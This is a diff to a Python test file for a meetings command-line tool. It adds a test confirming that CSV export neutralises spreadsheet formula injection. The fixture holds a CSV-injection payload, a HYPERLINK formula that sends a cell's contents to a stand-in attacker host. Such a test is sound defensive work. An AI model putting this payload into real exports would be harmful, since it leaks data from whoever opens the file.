@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from dataclasses import replace
@@ -136,6 +137,18 @@ def test_meetings_as_table_csv_and_json(
     assert row.startswith("grace-sam,2026-11-23,True,45")
     assert main(["meetings", "--format", "json", "--since", "2026-11-24"]) == 0
     assert json.loads(capsys.readouterr().out) == []
+
+
+def test_meetings_as_csv_never_hand_a_spreadsheet_a_formula(
+    deployment: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A reply whose Message-ID is a formula is written with an apostrophe first, as in `report`."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    _record(deployment / "reminders.sqlite3", replace(MET, message_id=formula))
+    assert main(["meetings", "--format", "csv"]) == 0
+    [row] = csv.DictReader(io.StringIO(capsys.readouterr().out))
+    assert row["message_id"] == "'" + formula
+    assert row["duration_minutes"] == "45"
 
 
 def test_meetings_of_a_mistyped_pair_say_there_is_no_such_pair(
